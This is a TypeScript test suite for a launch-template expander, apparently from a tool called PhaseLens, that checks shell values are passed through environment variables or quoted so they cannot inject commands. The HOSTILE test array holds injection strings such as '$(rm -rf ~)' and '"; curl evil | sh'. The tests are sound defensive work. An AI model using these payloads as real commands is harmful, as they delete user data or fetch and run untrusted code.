import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expandLaunchCommand, LAUNCH_ENV, wslEnvFor, type LaunchValues } from '../../../src/core/shell/launchTemplate';
import type { ShellKind } from '../../../src/core/shell/detect';

const values = (over: Partial<LaunchValues> = {}): LaunchValues => ({
  phaseId: '2B',
  phaseTitle: 'Exporter',
  file: '/work/plans/PHASE_2.md',
  line: '57',
  prompt: '# Phase 2B: Exporter\n\n- [ ] Write CSV\n',
  ...over,
});

function expand(template: string, kind: ShellKind, over: Partial<LaunchValues> = {}) {
  const result = expandLaunchCommand(template, values(over), kind);
  assert.ok(result.ok, `expected ${template} to expand under ${kind}: ${result.ok ? '' : result.error}`);
  return result;
}

/** The titles of the issue, and the other ways text has been turned into commands. */
const HOSTILE = [
  '$(rm -rf ~)',
  '"; curl evil | sh',
  "'; curl evil | sh; echo '",
  '`id`',
  'line one\nrm -rf ~\n',
  '%PATH% %%cd:~,%',
  '!! !-1 !$',
  'ünïcødé 🚀 模型 — “smart” ‘quotes’',
  '$HOME ${HOME} $((1+1)) * ? [a] ~',
  'back\\slash\\',
  '\t-tab\u0003ctrl-c\u001b[31m',
];

describe('shell: launch template', () => {
  it('never writes a value into the line under sh, fish and PowerShell: it travels in the environment', () => {
    for (const kind of ['posix', 'fish', 'powershell'] as const) {
      for (const hostile of HOSTILE) {
        const result = expand('run ${phaseTitle} ${prompt}', kind, { phaseTitle: hostile, prompt: `# ${hostile}\n` });
        assert.ok(!result.command.includes(hostile.trim()), `${kind}: ${result.command}`);
        assert.equal(result.env[LAUNCH_ENV.phaseTitle], hostile.replace(/\u0000/g, ''));
        assert.equal(result.env[LAUNCH_ENV.prompt], `# ${hostile}\n`);
      }
    }
  });

  it('refers to each variable as a quoted word in the shell`s own syntax', () => {
    assert.equal(expand('claude ${prompt}', 'posix').command, 'claude "${PHASELENS_PROMPT}"');
    assert.equal(expand('claude ${prompt}', 'fish').command, 'claude "$PHASELENS_PROMPT"');
    assert.equal(expand('claude ${prompt}', 'powershell').command, 'claude "${env:PHASELENS_PROMPT}"');
    assert.equal(expand('./scripts/run-phase.sh ${phaseId} ${file}:${line}', 'posix').command, './scripts/run-phase.sh "${PHASELENS_PHASE_ID}" "${PHASELENS_FILE}":"${PHASELENS_LINE}"');
  });

  it('keeps the template`s own quotes working: inside, around and next to a placeholder', () => {
    assert.equal(expand(`x "\${phaseId}: \${phaseTitle}" '\${phaseTitle}'`, 'posix').command, `x "\${PHASELENS_PHASE_ID}: \${PHASELENS_PHASE_TITLE}" "\${PHASELENS_PHASE_TITLE}"`);
    assert.equal(expand(`x 'id \${phaseId}!'`, 'posix').command, `x 'id '"\${PHASELENS_PHASE_ID}"'!'`);
    assert.equal(expand(`x "id \${phaseId}"`, 'fish').command, 'x "id "$PHASELENS_PHASE_ID""');
    assert.equal(expand(`x "id \${phaseId}" '\${phaseId}'`, 'powershell').command, 'x "id ${env:PHASELENS_PHASE_ID}" "${env:PHASELENS_PHASE_ID}"');
    assert.equal(expand('x --title=${phaseTitle}', 'powershell').command, 'x --title="${env:PHASELENS_PHASE_TITLE}"');
  });

  it('leaves the shell`s own variables and escaped placeholders alone', () => {
    assert.equal(expand('cd ${HOME} && run \\${phaseId} ${phaseId}', 'posix').command, 'cd ${HOME} && run \\${phaseId} "${PHASELENS_PHASE_ID}"');
  });

  it('refuses PowerShell templates it cannot turn into one argument', () => {
    const single = expandLaunchCommand(`x 'id \${phaseId}'`, values(), 'powershell');
    assert.equal(single.ok, false);
    assert.match(single.ok ? '' : single.error, /inside double quotes/);
    const glued = expandLaunchCommand('x ${phaseId}.log', values(), 'powershell');
    assert.equal(glued.ok, false);
    assert.match(glued.ok ? '' : glued.error, /"\$\{phaseId\}\.log"/);
  });

  it('quotes values into the line for cmd.exe, and sets no environment there', () => {
    const result = expand('run ${phaseTitle} "${phaseId}: ${phaseTitle}"', 'cmd', { phaseTitle: '"; calc & echo %PATH%' });
    assert.equal(result.command, 'run """; calc & echo %%cd:~,%PATH%%cd:~,%" "2B: ""; calc & echo %%cd:~,%PATH%%cd:~,%"');
    assert.deepEqual(result.env, {});
    assert.equal(expand('run ${prompt}', 'cmd', { prompt: 'one\ntwo' }).command, 'run "one two"');
  });

  it('shares the variables with WSL, translating the file path', () => {
    assert.equal(wslEnvFor(undefined), 'PHASELENS_PHASE_ID:PHASELENS_PHASE_TITLE:PHASELENS_FILE/p:PHASELENS_LINE:PHASELENS_PROMPT');
    assert.match(wslEnvFor('GOPATH/l:USERPROFILE/p'), /^GOPATH\/l:USERPROFILE\/p:PHASELENS_PHASE_ID:/);
  });

  // The same lines run by the real shells on this machine: the program must receive exactly the
  // values, and nothing in them may run. The values here say `touch CANARY` rather than anything
  // destructive, so a failure leaves a file behind instead of damage.
  describe('run by real shells', () => {
    const shells: Array<{ kind: ShellKind; program: string }> = [
      { kind: 'posix', program: 'sh' },
      { kind: 'posix', program: 'bash' },
      { kind: 'posix', program: 'zsh' },
      { kind: 'fish', program: 'fish' },
      { kind: 'powershell', program: 'pwsh' },
    ];
    const canaries = [
      '$(touch CANARY-1)',
      '`touch CANARY-2`',
      '"; touch CANARY-3; echo "',
      "'; touch CANARY-4; echo '",
      'line one\ntouch CANARY-5\n',
      '$(touch CANARY-6)\n"; touch CANARY-7 | sh',
      '%PATH% !! !$ ünïcødé 🚀 “smart” ‘quotes’ $HOME * ~ back\\slash\\',
      '(touch CANARY-8); touch CANARY-9 # \t\u0003',
    ];
    let dir: string;
    let receiver: string;
    before(() => {
      dir = mkdtempSync(path.join(os.tmpdir(), 'phaselens-quote-'));
      receiver = path.join(dir, 'receive.js');
      writeFileSync(receiver, 'process.stdout.write(JSON.stringify(process.argv.slice(2)))');
    });
    after(() => rmSync(dir, { recursive: true, force: true }));

    for (const { kind, program } of shells) {
      it(`${program}: every argument arrives exactly, nothing runs`, function () {
        if (spawnSync(program, ['-c', 'exit 0']).status !== 0) {
          console.log(`      (skipped: ${program} is not installed)`);
          this.skip();
        }
        const template = `${process.execPath} ${receiver} \${phaseTitle} "\${phaseTitle}" '\${phaseTitle}' --title=\${phaseTitle} "\${phaseId}: \${phaseTitle}" \${prompt}`;
        for (const title of canaries) {
          const prompt = `# Phase 9: ${title}\n\n- [ ] ${title}\n`;
          const result = expandLaunchCommand(template, values({ phaseId: '9', phaseTitle: title, prompt }), kind);
          assert.ok(result.ok);
          const run = spawnSync(program, kind === 'powershell' ? ['-NoProfile', '-Command', result.command] : ['-c', result.command], {
            cwd: dir,
            env: { ...process.env, ...result.env },
            encoding: 'utf8',
          });
          assert.equal(run.status, 0, `${program} failed: ${run.stderr}`);
          assert.deepEqual(JSON.parse(run.stdout), [title, title, title, `--title=${title}`, `9: ${title}`, prompt], result.command);
          assert.deepEqual(readdirSync(dir).filter((name) => name.startsWith('CANARY')), [], `${program} ran part of ${JSON.stringify(title)}`);
        }
        assert.ok(!existsSync(path.join(dir, 'CANARY-1')));
      });
    }
  });
});
